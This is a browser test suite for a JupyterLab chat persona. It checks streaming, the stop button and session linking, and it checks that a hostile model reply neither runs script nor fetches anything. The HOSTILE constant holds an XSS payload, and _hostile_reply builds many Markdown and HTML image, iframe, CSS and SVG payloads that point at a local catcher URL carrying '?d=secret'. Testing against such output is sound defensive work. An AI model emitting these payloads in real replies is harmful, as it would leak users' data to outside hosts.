"""The chat panel in a real JupyterLab and Chromium: Pi answers in a ``.chat`` beside a notebook,
on the session the notebook's cells write; a hostile reply, and its exports, fetch nothing.

JupyterLab starts as in ``tests/views/test_browser.py`` (loopback, a token, its own config),
with the ``chat`` extra's server extensions (jupyterlab-chat, Jupyter AI's router and persona
manager) and pinb's loopback model server as the persona's model (``PinbPersona.model``), so
a reply streams slowly enough to be watched. The test runs a notebook cell, points the chat
at the notebook's session (``/session open``), mentions Pi, watches the reply stream, stops a
second reply with the chat's stop button, runs a cell after the chat's turn and reads both
turns in ``%pi tree``. Another has the model reply with every way Markdown and HTML could
make the browser fetch something, and counts the requests that leave the lab's origin, in
the chat and in the session's ``--html``, ``--md`` and ``--ipynb`` exports opened in the
same browser. Screenshots go to ``test-artifacts/``.
"""

from __future__ import annotations

import contextlib
import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from pinb.analysis.export import write_export
from pinb.chat.link import ensure_chat_file, read_link
from pinb.chat.turns import chat_turns
from pinb.core import Session
from pinb.testing.llm_server import LLMServer
from tests.pi.loop import KEY, PiLoop, configure
from tests.views.test_browser import (
    ARTIFACTS,
    BUDGET_S,
    CHROMIUM,
    STEP_MS,
    _cell,
    _open_notebook,
    _write_notebook,
    chromium_page,
    jupyter_lab,
    kernel_ready,
    watchdog,
)

pytestmark = pytest.mark.slow(seconds=60)

HOSTILE = "<img src=x onerror=\"window.__pinb_xss='img'\"> [click](javascript:alert(1))"
ANSWER = "Streaming **slowly** through the chat. " * 12


def _second_page(page: Any) -> Any:
    """A page of its own beside ``page`` (the chat beside the notebook), watched alike."""
    chat = page.context.browser.new_page(viewport={"width": 1400, "height": 1100})
    chat.set_default_timeout(STEP_MS)
    chat.add_init_script(
        "window.__pinb_xss = undefined;window.alert = () => { window.__pinb_xss = 'alert'; };"
    )
    return chat


def _message_texts(page: Any) -> list[str]:
    return list(
        page.evaluate(
            "() => [...document.querySelectorAll('.jp-chat-rendered-message')]"
            ".map(e => e.innerText)"
        )
    )


def _send(page: Any, text: str) -> None:
    box = page.locator(".jp-chat-input-container textarea").first
    box.click()
    box.fill(text)
    page.wait_for_timeout(200)  # the input settles its mention list
    box.press("Enter")


def _wait_for_message(page: Any, needle: str, count_before: int) -> str:
    page.wait_for_function(
        "([needle, before]) => { const m = [...document.querySelectorAll("
        "'.jp-chat-rendered-message')].slice(before);"
        " return m.some(e => e.innerText.includes(needle)); }",
        arg=[needle, count_before],
    )
    return next(t for t in _message_texts(page)[count_before:] if needle in t)


_PROMPT = (
    "i => document.querySelectorAll('.jp-Notebook .jp-Cell')[i]"
    ".querySelector('.jp-InputPrompt').textContent"
)


def _run_cell(page: Any, index: int, needle: str = "") -> str:
    """Run cell ``index`` (Shift+Enter) once the kernel is ready, and wait until it has run;
    its output's text. A key the editor missed is pressed again, only while the cell shows
    neither a count nor ``*`` (running).
    """
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    kernel_ready(page)
    cell = page.locator(".jp-Notebook .jp-Cell").nth(index)
    for _ in range(3):
        cell.locator(".jp-InputArea-editor").click()
        page.keyboard.press("Shift+Enter")
        with contextlib.suppress(PlaywrightTimeout):
            page.wait_for_function(f"i => /[*\\d]/.test(({_PROMPT})(i))", arg=index, timeout=20_000)
            break
    page.wait_for_function(f"i => /\\[\\d+\\]/.test(({_PROMPT})(i))", arg=index)
    if needle:
        cell.locator(".jp-OutputArea-output").filter(has_text=needle).first.wait_for()
    return str(cell.locator(".jp-OutputArea").inner_text())


def _no_injection(page: Any) -> None:
    assert page.evaluate("window.__pinb_xss") is None, "an injected script ran"
    injected = page.evaluate(
        "() => { const box = document.querySelector('.jp-chat-messages-container');"
        " const tags = box.querySelectorAll('script, iframe, style, [onerror], [onload]');"
        " const links = [...box.querySelectorAll('a')]"
        ".filter(a => !['http:', 'https:', 'mailto:'].includes(a.protocol)"
        " || a.href.startsWith('javascript'));"
        " return tags.length + links.filter(a => a.protocol === 'javascript:').length; }"
    )
    assert injected == 0


def test_pi_in_the_chat_panel_beside_a_notebook(
    tmp_path: Path, isolated_agent_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The persona on pinb's built-in agent."""
    monkeypatch.setenv("LOOP_KEY", KEY)
    with LLMServer() as server:
        configure(isolated_agent_dir, server)
        _chat_beside_a_notebook(tmp_path, isolated_agent_dir, server, {"model": "loop/loop-model"})


def test_your_own_pi_in_the_chat_panel_beside_a_notebook(
    tmp_path: Path, isolated_agent_dir: Path, pi_loop: PiLoop
) -> None:
    """The persona with ``engine = "pi"``: the real Pi 1.6.0 answers (over RPC, started by
    the server's persona), on the same session the notebook's cells write."""
    _chat_beside_a_notebook(
        tmp_path,
        isolated_agent_dir,
        pi_loop.server,
        {"engine": "pi", "pi_model": "loop/loop-model"},
        footer="your Pi · loop/loop-model · this run (1 request)",
    )


def _chat_beside_a_notebook(
    tmp_path: Path,
    isolated_agent_dir: Path,
    server: LLMServer,
    persona: dict[str, str],
    footer: str = "loop/loop-model · this run (1 request)",
) -> None:
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: the browser test needs Debian's Chromium")
    started = time.monotonic()
    root = tmp_path / "lab"
    root.mkdir()
    (root / "app.py").write_text("print('hello from app.py')\n")
    config = root / ".jupyter-home" / "config"
    config.mkdir(parents=True)
    (config / "jupyter_server_config.json").write_text(json.dumps({"PinbPersona": persona}))
    _write_notebook(
        root / "demo.ipynb",
        [
            _cell(["%load_ext pinb\n", '%config PiMagics.model = "offline"']),
            _cell(["%%pi\n", "What does app.py do?"]),
            _cell(["%%pi\n", "And what did the chat just do?"]),
            _cell(["%pi tree"]),
            _cell(["print(_.to_text())"]),
        ],
    )
    ensure_chat_file(root / "demo.chat")
    ARTIFACTS.mkdir(exist_ok=True)
    engine = persona.get("engine", "pinb")
    server.reply(text=ANSWER + HOSTILE, chunk_delay=0.07)
    server.reply(text="A long and slow answer. " * 60, chunk_delay=0.05)
    with (
        watchdog(BUDGET_S),
        jupyter_lab(root) as (base, token),
        chromium_page(1400, 1100) as page,
    ):
        chat = _second_page(page)
        try:
            # The notebook: a first cell writes the session.
            _open_notebook(page, base, token, "demo.ipynb", run=False)
            _run_cell(page, 0)
            _run_cell(page, 1, "this run")
            (path,) = (isolated_agent_dir / "sessions").rglob("*.jsonl")

            # The chat: pick the notebook's session, then mention Pi.
            chat.goto(
                f"{base}/lab/workspaces/chat/tree/demo.chat?token={token}",
                wait_until="domcontentloaded",
            )
            chat.locator(".jp-chat-input-container textarea").first.wait_for()
            assert "Pi" in chat.locator(".jp-jai-personaControls-persona").first.inner_text()
            _send(chat, f"@Pi /session open {path}")
            opened = _wait_for_message(chat, "Now continuing it.", 1)
            assert path.name in opened
            before = len(_message_texts(chat))
            _send(chat, "@Pi run `python app.py` and tell me about it")
            # It streams: part of the answer shows before the footer does.
            partial = _wait_for_message(chat, "Streaming slowly", before + 1)
            assert "context now" not in partial
            chat.screenshot(path=str(ARTIFACTS / f"chat-streaming-{engine}.png"))
            final = _wait_for_message(chat, "context now", before + 1)
            assert final.count("Streaming slowly through the chat.") == 12
            assert "<img src=x onerror=" in final  # the model's HTML shows as text
            assert footer in final
            _no_injection(chat)
            chat.screenshot(path=str(ARTIFACTS / f"chat-reply-{engine}.png"))

            # Stop: the chat's stop button ends a slow reply; its part is saved.
            before = len(_message_texts(chat))
            _send(chat, "@Pi take your time")
            _wait_for_message(chat, "A long and slow answer.", before + 1)
            stop = chat.locator(".jp-jai-stopButton button, button.jp-jai-stopButton").first
            stop.click()
            stopped = _wait_for_message(chat, "stopped: the partial reply", before + 1)
            assert "A long and slow answer." in stopped
            chat.screenshot(path=str(ARTIFACTS / f"chat-stopped-{engine}.png"))

            # Back in the notebook: the next cell continues after the chat's turns.
            shown = _run_cell(page, 2, "this run")
            assert "entries the chat panel (demo.chat) appended to this session" in shown
            _run_cell(page, 3)
            tree = _run_cell(page, 4, "pinb.chat")
            assert tree.count("pinb.chat") == 2
            assert "run `python app.py` and tell me about it" in tree
            page.screenshot(
                path=str(ARTIFACTS / f"chat-notebook-tree-{engine}.png"), full_page=True
            )
        except Exception:
            with contextlib.suppress(Exception):
                chat.screenshot(path=str(ARTIFACTS / f"chat-failure-{engine}.png"))
                page.screenshot(path=str(ARTIFACTS / f"chat-notebook-failure-{engine}.png"))
            raise
    session = Session.open(path)
    assert session.problems == []
    texts = [e.message["content"][0]["text"] for e in session.path_to() if e.role == "user"]
    assert texts == [
        "What does app.py do?",
        "run `python app.py` and tell me about it",
        "take your time",
        "And what did the chat just do?",
    ]
    assert len(chat_turns(session)) == 2
    aborted = [e for e in session.path_to() if e.role == "assistant"][-2].message
    assert aborted["stopReason"] == "aborted"
    link = read_link(root / "demo.chat")
    assert link is not None and link.session == path and link.linked_by == "chat"
    assert KEY not in (root / "demo.chat").read_text()
    assert time.monotonic() - started < BUDGET_S


class _Catcher:
    """A loopback server on a port of its own (an origin other than the lab's): where a
    hostile reply sends the browser. It records every request that reaches it."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                return

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> _Catcher:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def _hostile_reply(c: str) -> str:
    """Every way a reply could make a browser fetch ``c`` (the catcher), and a marker."""
    return "\n\n".join(
        [
            "Here is **the report**.",
            f"![inline]({c}/inline.png?d=secret)",
            f"![reference][r]\n\n[r]: {c}/reference.png?d=secret",
            f'<img src="{c}/raw.png?d=secret" alt="raw">',
            f'<iframe src="{c}/frame.html"></iframe>',
            f'<div style="background-image:url({c}/css.png)">styled</div>',
            f'<svg><image href="{c}/svg.png" width="9" height="9"/></svg>',
            "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            f"[![nested]({c}/nested.png)]({c}/page)",
            f"&#x21;[entity]({c}/entity.png) and wow![bang]({c}/bang.png)",
            f"| a | b |\n|---|---|\n| ![cell]({c}/cell.png) | `<img src={c}/code.png>` |",
            f"- ![item]({c}/item.png)\n- see {c}/bare.png`<img src={c}/bare-code.png>`",
            f'```html\n<img src="{c}/fence.png">\n```',
            "END-OF-REPLY",
        ]
    )


#: Elements in a rendered page that would fetch: anything but a link with an address.
_FETCHERS = (
    "root => [...root.querySelectorAll('*')].filter(e => e.tagName !== 'A'"
    " && ['src', 'srcset', 'href', 'xlink:href', 'poster', 'data', 'background']"
    ".some(n => e.hasAttribute(n) && !/^data:image[/]png;base64,/.test(e.getAttribute(n)))"
    " || /url[(]/.test(e.getAttribute('style') || '')).map(e => e.outerHTML.slice(0, 200))"
)
_LINKS = "root => [...root.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.textContent])"


def _check_rendered(root: Any, c: str, where: str) -> None:
    """What a rendered reply shows: links to click for the pictures, HTML as its text."""
    assert root.evaluate(_FETCHERS) == [], where
    links = [tuple(link) for link in root.evaluate(_LINKS)]
    for name in ("inline", "reference", "cell", "item", "bang"):
        assert (f"{c}/{name}.png?d=secret" if name in ("inline", "reference") else
                f"{c}/{name}.png", f"image: {name}") in links, (where, name, links)  # fmt: skip
    # (and JupyterLab's anchors beside headings)
    assert not [href for href, _ in links if not href.startswith((c, "mailto:", "#"))], where
    text = root.inner_text()
    for shown in (f'<img src="{c}/raw.png?d=secret" alt="raw">', "<iframe src=", "END-OF-REPLY"):
        assert shown in text, (where, shown)


@contextlib.contextmanager
def _requests_leaving(page: Any, base: str) -> Iterator[list[str]]:
    """Every request of ``page``'s browser context to another origin than ``base``'s."""
    origin = urlsplit(base).netloc
    seen: list[str] = []

    def record(request: Any) -> None:
        url = urlsplit(request.url)
        if url.scheme in ("http", "https", "ws", "wss") and url.netloc != origin:
            seen.append(request.url)

    page.context.on("request", record)
    yield seen


def test_a_hostile_reply_fetches_nothing_in_the_chat_or_its_exports(
    tmp_path: Path, isolated_agent_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: the browser test needs Debian's Chromium")
    monkeypatch.setenv("LOOP_KEY", KEY)
    root = tmp_path / "lab"
    config = root / ".jupyter-home" / "config"
    config.mkdir(parents=True)
    (config / "jupyter_server_config.json").write_text(
        json.dumps({"PinbPersona": {"model": "loop/loop-model"}})
    )
    ensure_chat_file(root / "report.chat")
    ARTIFACTS.mkdir(exist_ok=True)
    with LLMServer() as server, _Catcher() as catcher:
        configure(isolated_agent_dir, server)
        c = catcher.base
        server.reply(text=_hostile_reply(c), chunk_delay=0.01)
        with (
            watchdog(BUDGET_S),
            jupyter_lab(root, "--LabApp.expose_app_in_browser=True") as (base, token),
            chromium_page(1400, 1400) as page,
            _requests_leaving(page, base) as leaving,
        ):
            try:
                # The chat: the reply streams in, and the final message is checked.
                page.goto(
                    f"{base}/lab/workspaces/report/tree/report.chat?token={token}",
                    wait_until="domcontentloaded",
                )
                page.locator(".jp-chat-input-container textarea").first.wait_for()
                _send(page, "@Pi write the report")
                _wait_for_message(page, "context now", 1)
                (reply,) = [
                    m
                    for m in page.locator(".jp-chat-rendered-message").all()
                    if "END-OF-REPLY" in m.inner_text()
                ]
                page.wait_for_timeout(1500)  # anything loaded lazily has had its chance
                page.screenshot(path=str(ARTIFACTS / "chat-hostile-reply.png"), full_page=True)
                assert leaving == [] and catcher.hits == [], (leaving, catcher.hits)
                _check_rendered(reply, c, "chat")

                # The session's exports, opened in the same browser.
                link = read_link(root / "report.chat")
                assert link is not None
                for fmt in ("html", "md", "ipynb"):
                    write_export(link.session, fmt, root / f"report.{fmt}")
                page.goto(f"{base}/files/report.html?token={token}")
                _check_rendered(page.locator("main"), c, "--html")
                # Without its Content-Security-Policy too: the markup alone fetches nothing.
                page.set_content(
                    (root / "report.html").read_text().replace("Content-Security-Policy", "x")
                )
                _check_rendered(page.locator("main"), c, "--html without its CSP")

                page.goto(f"{base}/lab/workspaces/nb/tree/report.ipynb?token={token}")
                cells = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown")
                cells.filter(has_text="END-OF-REPLY").first.wait_for()
                (cell,) = cells.filter(has_text="END-OF-REPLY").all()
                _check_rendered(cell, c, "--ipynb, untrusted")
                page.screenshot(path=str(ARTIFACTS / "export-hostile-ipynb.png"), full_page=True)

                page.evaluate(
                    "() => window.jupyterapp.commands.execute('docmanager:open',"
                    " {path: 'report.md', factory: 'Markdown Preview'})"
                )
                preview = page.locator(".jp-RenderedMarkdown").filter(has_text="END-OF-REPLY")
                preview.last.wait_for()
                _check_rendered(preview.last, c, "--md in JupyterLab's Markdown preview")
                page.screenshot(path=str(ARTIFACTS / "export-hostile-md.png"), full_page=True)
                page.wait_for_timeout(1500)
            except Exception:
                with contextlib.suppress(Exception):
                    page.screenshot(path=str(ARTIFACTS / "chat-hostile-failure.png"))
                raise
            assert leaving == [], leaving
    assert catcher.hits == [], catcher.hits


def test_pi_chat_opens_its_chat_beside_the_notebook(
    tmp_path: Path, isolated_agent_dir: Path
) -> None:
    """``%pi chat`` in a notebook in a subfolder: the chat is made beside the notebook, named
    after the session, and its output's link opens it in JupyterLab's chat side panel, the
    notebook still in view, the chat's first message saying which session it continues."""
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: the browser test needs Debian's Chromium")
    root = tmp_path / "lab"
    (root / "work").mkdir(parents=True)
    _write_notebook(
        root / "work" / "demo.ipynb",
        [
            _cell(["%load_ext pinb\n", '%config PiMagics.model = "offline"']),
            _cell(["%%pi\n", "hi"]),
            _cell(["%pi chat"]),
        ],
    )
    ARTIFACTS.mkdir(exist_ok=True)
    with watchdog(BUDGET_S), jupyter_lab(root) as (base, token), chromium_page(1400, 1000) as page:
        _open_notebook(page, base, token, "work/demo.ipynb", run=False)
        _run_cell(page, 0)
        _run_cell(page, 1, "this run")
        _run_cell(page, 2, "beside this notebook")
        (session,) = (isolated_agent_dir / "sessions").rglob("*.jsonl")
        (chat,) = root.rglob("*.chat")
        assert chat.parent == root / "work"
        assert chat.name == f"session-{Session.open(session).id[:8]}.chat"
        page.get_by_text(f"Open {chat.name} beside this notebook").click()
        said = f"{chat.name} continues {session.name}"
        messages = page.locator("#jp-left-stack .jp-chat-rendered-message")
        messages.filter(has_text=said).first.wait_for()
        assert page.locator(".jp-NotebookPanel:not(.lm-mod-hidden)").count() == 1
        assert page.locator("#jp-main-dock-panel .jp-chat-messages-container").count() == 0
        assert page.locator(".jp-Dialog").count() == 0  # nothing asked: the command just ran
        page.screenshot(path=str(ARTIFACTS / "chat-opened-beside.png"))
    assert read_link(chat) is not None and read_link(chat).session == session.resolve()
